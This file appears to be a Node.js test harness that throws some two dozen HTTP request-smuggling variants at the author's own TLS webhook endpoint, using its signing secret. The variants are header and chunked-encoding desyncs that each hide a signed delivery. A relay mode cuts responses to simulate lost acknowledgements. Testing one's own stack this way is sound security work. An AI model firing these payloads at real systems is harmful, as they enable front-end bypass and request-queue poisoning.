// What no honest client sends, written to a TLS socket as it is: requests that hide another one in their body, where two readers can differ about its end.
//   smuggle HOST PORT CERTIFICATE SECRET PREFIX   sends each of them; the hidden one is a signed delivery with the id PREFIX_<attack>, so that it would be stored
//   relay PORT UPSTREAM_PORT                      passes connections on, and cuts the answer to the first request with each webhook-id that begins with cut_
import { createHmac } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { connect as connectTcp, createServer } from 'node:net';
import { connect } from 'node:tls';

const CRLF = '\r\n';
const [mode, ...words] = process.argv.slice(2);
mode === 'relay' ? relay(...words.map(Number)) : await smuggle(...words);

async function smuggle(host, port, certificate, secret, prefix) {
  const ca = readFileSync(certificate), key = Buffer.from(secret, 'base64');
  const hidden = (attack) => {
    const id = `${prefix}_${attack}`, now = Math.floor(Date.now() / 1000), body = '{"event":"new_order","data":{"order_id":"S-1","customer_name":"Eve","total_amount":1}}';
    const signature = createHmac('sha256', key).update(`${id}.${now}.${body}`).digest('base64');
    return ['POST /webhook HTTP/1.1', `Host: ${host}`, 'Content-Type: application/json', 'X-Forwarded-Proto: https', 'X-Forwarded-For: 203.0.113.66',
      `webhook-id: ${id}`, `webhook-timestamp: ${now}`, `webhook-signature: v1,${signature}`, `Content-Length: ${body.length}`, '', body].join(CRLF);
  };
  const size = (text) => Buffer.byteLength(text).toString(16);
  // The headers as they are given, and a body behind them.
  const raw = (headers, body, end = CRLF) => ['POST /webhook HTTP/1.1', `Host: ${host}`, 'Content-Type: application/json', ...headers, '', ''].join(end) + body;
  const lastChunkFirst = (request) => '0\r\n\r\n' + request;
  const oneChunk = (request) => `${size(request)}\r\n${request}\r\n0\r\n\r\n`;
  const untilHidden = (request) => size(request).length + 2;

  const attacks = {
    // One reads the length, the other the chunks, and either way round.
    cl_te: (r) => raw([`Content-Length: ${lastChunkFirst(r).length}`, 'Transfer-Encoding: chunked'], lastChunkFirst(r)),
    te_cl: (r) => raw(['Transfer-Encoding: chunked', `Content-Length: ${untilHidden(r)}`], oneChunk(r)),
    // The encoding is written so that one knows it and the other does not.
    te_twice: (r) => raw(['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], lastChunkFirst(r)),
    te_twice_cl: (r) => raw([`Content-Length: ${untilHidden(r)}`, 'Transfer-Encoding: identity', 'Transfer-Encoding: chunked'], oneChunk(r)),
    te_list: (r) => raw(['Transfer-Encoding: chunked, identity', `Content-Length: ${untilHidden(r)}`], oneChunk(r)),
    te_unknown: (r) => raw(['Transfer-Encoding: xchunked', `Content-Length: ${untilHidden(r)}`], oneChunk(r)),
    te_space: (r) => raw(['Transfer-Encoding : chunked', `Content-Length: ${untilHidden(r)}`], oneChunk(r)),
    te_vertical_tab: (r) => raw(['Transfer-Encoding: \vchunked', `Content-Length: ${untilHidden(r)}`], oneChunk(r)),
    te_folded: (r) => raw(['Transfer-Encoding:', ' chunked', `Content-Length: ${untilHidden(r)}`], oneChunk(r)),
    te_http10: (r) => raw(['Transfer-Encoding: chunked', 'Connection: keep-alive'], lastChunkFirst(r)).replace('HTTP/1.1', 'HTTP/1.0'),
    // A chunk's extension that ends at a bare line feed for one, and at the next line for the other.
    extension_lf: (r) => raw(['Transfer-Encoding: chunked'], `1;a\nX\r\n0\r\n\r\n${r}`),
    extension_lf_long: (r) => raw(['Transfer-Encoding: chunked'], `2;\n${size(r)}\r\n${r.length}\r\n0\r\n\r\n${r}`),
    chunk_lf: (r) => raw(['Transfer-Encoding: chunked'], `2\nXX\n0\n\n${r}`),
    chunk_size: (r) => raw(['Transfer-Encoding: chunked'], `0x${size(r)}\r\n${r}\r\n0\r\n\r\n`),
    chunk_size_overflow: (r) => raw(['Transfer-Encoding: chunked'], `10000000000000000\r\n${r}\r\n0\r\n\r\n`),
    // Lines that end at a bare line feed, or a header that hides behind one.
    header_lf: (r) => raw([`Content-Length: ${untilHidden(r)}`, 'X: y\nTransfer-Encoding: chunked'], oneChunk(r)),
    header_cr: (r) => raw([`Content-Length: ${untilHidden(r)}`, 'X: y\rTransfer-Encoding: chunked'], oneChunk(r)),
    lines_lf: (r) => raw([`Content-Length: ${lastChunkFirst(r).length}`, 'Transfer-Encoding: chunked'], lastChunkFirst(r), '\n'),
    // A length that is no number, or two.
    length_plus: (r) => raw(['Content-Length: +' + (5 + r.length)], '12345' + r),
    length_twice: (r) => raw(['Content-Length: 5', `Content-Length: ${5 + r.length}`], '12345' + r),
    length_list: (r) => raw([`Content-Length: 5, ${5 + r.length}`], '12345' + r),
    length_folded: (r) => raw(['Content-Length: 5', ` ${r.length}`], '12345' + r),
    length_hex: (r) => raw(['Content-Length: 0x5'], '12345' + r),
    length_minus: (r) => raw(['Content-Length: -1'], r),
    // A header that takes the one away that says where the body ends.
    hop_by_hop: (r) => raw([`Content-Length: ${r.length}`, 'Connection: keep-alive, Content-Length'], r),
    // In a header's value, by its line ends.
    folded_request: (r) => raw(['Content-Length: 0', 'X: y', ' ' + r.split(CRLF)[0], ...r.split(CRLF).slice(1, -2).map((line) => ' ' + line)], ''),
  };

  const answers = await Promise.all(Object.entries(attacks).map(async ([attack, write]) => [attack, await send(Buffer.from(write(hidden(attack)), 'latin1'))]));
  console.log(answers.map(([attack, statuses]) => `${attack}: ${statuses.join(' ') || 'closed'}`).join(', '));

  // The statuses that come back: until the proxy closes, or has nothing more to say.
  function send(bytes) {
    return new Promise((resolve) => {
      let text = '';
      const socket = connect({ host, port, ca, servername: host, ALPNProtocols: ['http/1.1'] }, () => socket.write(bytes));
      socket.setTimeout(3000, () => socket.destroy());
      socket.on('data', (data) => { text += data.toString('latin1'); });
      socket.on('error', () => {});
      socket.on('close', () => resolve([...text.matchAll(/HTTP\/1\.[01] (\d{3})/g)].map((match) => match[1])));
    });
  }
}

function relay(port, upstreamPort) {
  const cut = new Set();
  createServer({ allowHalfOpen: true }, (client) => {
    const upstream = connectTcp({ port: upstreamPort, host: '127.0.0.1', allowHalfOpen: true });
    let isCut = false;
    client.on('data', (data) => {
      const id = data.toString('latin1').match(/webhook-id: (cut_\w+)/i)?.[1];
      if (id && !cut.has(id)) { cut.add(id); isCut = true; }
      upstream.write(data);
    });
    // It has answered, so the event is stored; nobody gets to know.
    upstream.on('data', (data) => { if (isCut) { client.resetAndDestroy(); upstream.destroy(); } else client.write(data); });
    client.on('end', () => upstream.end());
    upstream.on('end', () => client.end());
    client.on('error', () => upstream.destroy());
    upstream.on('error', () => client.destroy());
    client.on('close', () => upstream.destroy());
  }).listen(port, '127.0.0.1');
}
